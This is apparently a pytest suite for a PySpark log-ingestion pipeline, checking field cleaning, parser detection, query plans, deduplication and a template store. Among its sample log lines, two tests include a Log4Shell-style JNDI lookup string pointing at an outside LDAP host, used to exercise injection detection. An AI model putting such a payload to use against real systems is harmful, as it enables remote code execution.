"""Lines whose fields need no cleaning or naming, which take a short way through the record pipeline."""

from __future__ import annotations

import re

from pyspark.sql import functions as F

from logsluice.operators import normalize as N
from logsluice.operators import pipeline as L

REFERENCE = "2024-12-31 00:00:00"
ODD = [
    {"timestamp": "2024-01-02T03:04:05Z", "host": "h", "source": "s", "message": "m", "source_ip": "1.2.3.4", "source_port": "80", "note": "n", "_rule": "r"},
    {"timestamp": "Mar 03 04:05:06", "event_type": "login failed", "severity": "WARN"}, {"timestamp": "10/Oct/2024:13:55:36 -0700", "response_code": "200"},
    {"timestamp": "Feb 30 04:05:06"}, {"timestamp": "31/12/2024 10:00"}, {"timestamp": "2024-01-02T03:04:05Z", "time": "2024-01-03"}, {"logtime": "2024-01-03"}, {"Host": "a", "host": "b"},
    {"source_ip": "1.2.3.999"}, {"source_ip": "2001:DB8::0001"}, {"ip": "1.2.3.4"}, {"source_port": "70000"}, {"response_code": "abc"}, {"destination_port": " 80"},
    {"host": "two  spaces"}, {"host": "'q'"}, {"host": "end "}, {"host": ""}, {"host": "a\tb"}, {"host": "\ufdd1x"}, {"a\x1fip": "1"}, {"_a": "1", "kv_b": "2", "c": "3"}, {},
]


def test_short_way_equals_long_way(spark):
    df = spark.createDataFrame([(i, f, "text a@b.org", 0.9, "generic") for i, f in enumerate(ODD)], "n int, fields map<string,string>, content string, parse_confidence double, parsed_event_type string")
    ready = N.cleaned(df, REFERENCE, ready=True).cache()
    assert {r["n"] for r in ready.where("__plain").collect()} == {0, 1, 2, 20}
    long = ready.withColumns({"__plain": F.lit(False), "fields": _cleaned_at_length(df, ready)})
    rows = lambda d: {r["n"]: r for r in N.normalize(N.extracted(d), REFERENCE).collect()}
    got, want = rows(ready), rows(long)
    assert got == want
    assert got[0]["extra"] == {"source": "s", "note": "n"} and got[0]["source_port"] == 80 and str(got[2]["timestamp"]) == "2024-10-10 20:55:36"


def _cleaned_at_length(df, ready):
    """The fields as they are: cleaning leaves those of plain lines, which a field that is not tidy shows."""
    untidy = df.withColumn("fields", F.map_concat("fields", F.create_map(F.lit("zz"), F.lit("  z  "))))
    found = {r["n"]: {k: v for k, v in r["fields"].items() if k != "zz"} for r in N.cleaned(untidy, REFERENCE).collect()}
    assert found == {r["n"]: r["fields"] for r in ready.collect()}
    return F.col("fields")


def test_record_pipeline_copies_lines_seldom(spark):
    """Each generator copies the whole line twice; one at the end keeps later filters out."""
    raw = spark.createDataFrame([("j", "s", 1, "x")], "job_id string, source_name string, line_number long, content string").withColumn("received_at", F.lit(REFERENCE).cast("timestamp"))
    done = L.processed(raw)
    assert done._jdf.queryExecution().optimizedPlan().toString().count("Generate explode") == 1
    # however small the rows are
    assert done.rdd.getNumPartitions() == 4 * spark.sparkContext.defaultParallelism


def test_lines_of_one_length_are_dealt_out(spark):
    """Masks are dealt out for their join, so that adaptive execution may split the lines of a length, which are all lines of a source."""
    from logsluice.operators import templates as T

    lines = spark.createDataFrame([(i, f"user {i} logged in", "s") for i in range(20)], "id long, line string, source string")
    old = spark.conf.get("spark.sql.autoBroadcastJoinThreshold")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        done = T.masked(T.tokenised(lines, "line"))
        assert "hashpartitioning(-minus" in done._jdf.queryExecution().executedPlan().toString().replace("(- ", "(-")
        assert {tuple(r["variables"]) for r in done.collect()} == {(str(i),) for i in range(20)}
    finally:
        spark.conf.set("spark.sql.autoBroadcastJoinThreshold", old)


def _raw(spark, *lines):
    rows = spark.createDataFrame([("j", "s", i, x) for i, x in enumerate(lines)], "job_id string, source_name string, line_number long, content string")
    return rows.withColumn("received_at", F.lit(REFERENCE).cast("timestamp"))


def test_lines_that_hold_a_mark_keep_their_groups(spark):
    """The marks between groups move no group of a line that holds them itself; a code was read from the wrong one, which failed the job."""
    web = '10.20.0.1 - us﷑er [02/Jan/2024:03:04:05 +0000] "GET /﷒a﷐ HTTP/1.1" 404 77 "-" "x﷑host﷒y"'
    auth = "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a﷑b from 10.20.0.1 port 22 ssh2"
    rows = {r["line_number"]: r for r in L.processed(_raw(spark, web, auth)).collect()}
    assert (rows[0]["username"], rows[0]["response_code"], rows[0]["url"], rows[0]["fields"]["user_agent"]) == ("us﷑er", 404, "/﷒a﷐", "x﷑host﷒y")
    assert (rows[1]["username"], rows[1]["source_port"], rows[1]["host"]) == ("a﷑b", 22, "h-1")


def test_sure_parser_is_the_first_of_all(spark):
    """Without its list of candidates a line's parser is the one that heads that list."""
    from logsluice.operators import parsers as P

    lines = [
        "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "<34>1 2024-01-02T03:04:05Z h app 7 ID47 - job 5", "a=1 b=2 c", "2024-01-02T03:04:05|h|u|1.2.3.4|deny", "words", "", None,
        "Jan 02 03:04:05 h kernel: IPTABLES DROP SRC=1.1.1.1 DST=2.2.2.2", '10.20.0.1 - u [02/Jan/2024:03:04:05 +0000] "GET / HTTP/1.1" 200 7 "-" "a"', '{"a": 1, "action=": 2}', "sudo: x : TTY=1 src=1 rt=0.1",
    ]
    df = _raw(spark, *lines)
    columns = ["line_number", "parser", "format", "format_confidence"]
    got, want = (sorted(P.detect(df, listed=listed).select(*columns).collect()) for listed in (False, True))
    assert got == want
    assert "candidates" not in P.detect(df, listed=False, hint="JSON").columns


def test_counts_work_out_no_times(spark):
    """What the named columns do not rest on is left out of the plan, and no line is."""
    raw = _raw(spark, "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "words", "words", " ", "${jndi:ldap://1.2.3.4/a}")
    done = L.processed(raw, columns=L.COUNTED)
    plan = done._jdf.queryExecution().optimizedPlan().toString()
    assert "no injection indicators" not in plan and "field_confidence" not in plan
    assert sorted(r["disposition"] for r in done.collect()) == sorted(r["disposition"] for r in L.processed(raw).collect())
    assert done.columns == list(L.COUNTED)


#: Columns that q_confidence and q_normalize show.
SHOWN = (
    ("line_number", "confidence", "processing_status", "valid"),
    ("line_number", "source_name", "timestamp", "source_ip", "username", "source_port", "response_code", "event_type", "severity", "action", "status", "host"),
)


def test_the_machine_can_compile_each_generated_method(spark):
    """The JVM compiles no method of more than 8,000 bytes: it would be interpreted for each line. Columns that nobody asks for took the lambda along that kept a projection apart."""
    spark.conf.set("spark.sql.adaptive.enabled", "false")  # else there is no code before the query runs
    try:
        for columns in SHOWN:
            plan = L.processed(_raw(spark, "words"), columns=columns)._jdf.queryExecution()
            code = plan.explainString(spark._jvm.org.apache.spark.sql.execution.ExplainMode.fromString("codegen"))
            sizes = [int(n) for n in re.findall(r"maxMethodCodeSize:(\d+)", code)]
            assert sizes and max(sizes) < 8000
    finally:
        spark.conf.unset("spark.sql.adaptive.enabled")


def test_lines_are_matched_only_where_a_column_rests_on_it(spark):
    raw = _raw(spark, "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "words", "words", " ", "${jndi:ldap://1.2.3.4/a}")
    whole = L.processed(raw)
    for columns in SHOWN:
        done = L.processed(raw, columns=columns)
        assert "Join" not in done._jdf.queryExecution().optimizedPlan().toString()
        assert sorted(map(str, done.collect())) == sorted(map(str, whole.select(*columns).collect()))
    assert "Join" in L.processed(raw, columns=("line_number", "disposition"))._jdf.queryExecution().optimizedPlan().toString()


def test_hashes_are_joined_by_shuffles_and_made_once_per_side(spark):
    """Hashes of all lines went to the driver as a broadcast where the planner took their table for small; and one side was hashed again to filter nulls, of which there are none."""
    raw = _raw(spark, "words", "words", "other")
    done = L.duplicates(raw)
    plan = done._jdf.queryExecution().executedPlan().toString()
    assert "Broadcast" not in plan and "SortMergeJoin" in plan and "isnotnull(reverse" not in plan
    assert sorted((r["line_number"], r["duplicate"]) for r in done.collect()) == [(0, False), (1, True), (2, False)]
    nameless = raw.withColumn("job_id", F.lit(None).cast("string"))
    assert sorted((r["line_number"], r["duplicate"]) for r in L.duplicates(nameless).collect()) == [(0, False), (1, True), (2, False)]


def test_a_parser_is_sure_where_its_score_is_one(spark):
    from logsluice.operators import parsers as P

    lines = [
        "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "Failed password for a from 10.20.0.1 port 22 sshd[7]:", "<34>1 2024-01-02T03:04:05Z h app 7 ID47 - job 5", "a=1 b=2",
        "a=1", "2024-01-02T03:04:05|h|u|1.2.3.4|deny", "words", "", "Jan 02 03:04:05 h kernel: IPTABLES DROP SRC=1.1.1.1 DST=2.2.2.2", "firewall DPT=1 netfilter", "{}", "{bad}", ' {"a": 1, "action=": 2} ',
        '10.20.0.1 - u [02/Jan/2024:03:04:05 +0000] "GET / HTTP/1.1" 200 7 "-" "a"', '10.20.0.1 - u [02/Jan/2024:03:04:05 +0000] "GET / HTTP/1.1" 200 7 "-" "a" "-" rt=0.1', 'x rt=0.1 "-" rt= urt="1"',
    ]
    line = F.col("content")
    rows = _raw(spark, *lines).select("content", *[F.struct(p.sure(line).alias("sure"), (p.score(line) == 1.0).alias("one")).alias(p.name) for p in P.BUILT_IN]).collect()
    assert [(r["content"], p.name) for r in rows for p in P.BUILT_IN if r[p.name]["sure"] != r[p.name]["one"]] == []
    assert {p.name for p in P.BUILT_IN if any(r[p.name]["one"] for r in rows)} == {p.name for p in P.BUILT_IN} - {"keyvalue", "raw"}


def test_store_writes_matches_once_before_their_buckets(spark, tmp_path, monkeypatch):
    """A run leaves it to the keyed table to store what it takes, and stores the columns that it keeps."""
    from logsluice.functions import keyed
    from logsluice.operators import template_store as TS

    written = []
    for module in (TS, keyed):
        monkeypatch.setattr(module, "stored", lambda df, name, plain=module.stored: written.append((name, df.columns)) or plain(df, name))
    store = TS.TemplateStore(spark, f"file://{tmp_path}/store", buckets=2)
    frame = lambda of: spark.createDataFrame([(i, f"user {i} logged in", "s") for i in of], "event_id long, content string, source string")
    assert store.run(frame(range(8)), 0) and store.run(frame(range(12)), 1)
    assert not [n for n, columns in written if "payload_bytes" in columns and n != "batch"]
    assert [set(columns) & {"line", "literals"} for n, columns in written if "payload_bytes" in columns] == [set(), set()]
    assert [tuple(r) for r in store.templates.read().select("pattern", "occurrences").collect()] == [("user <*> logged in", 12)]
    assert {r["event_id"]: tuple(r["variables"]) for r in store.payloads().collect()} == {i: (str(i),) for i in range(12)}
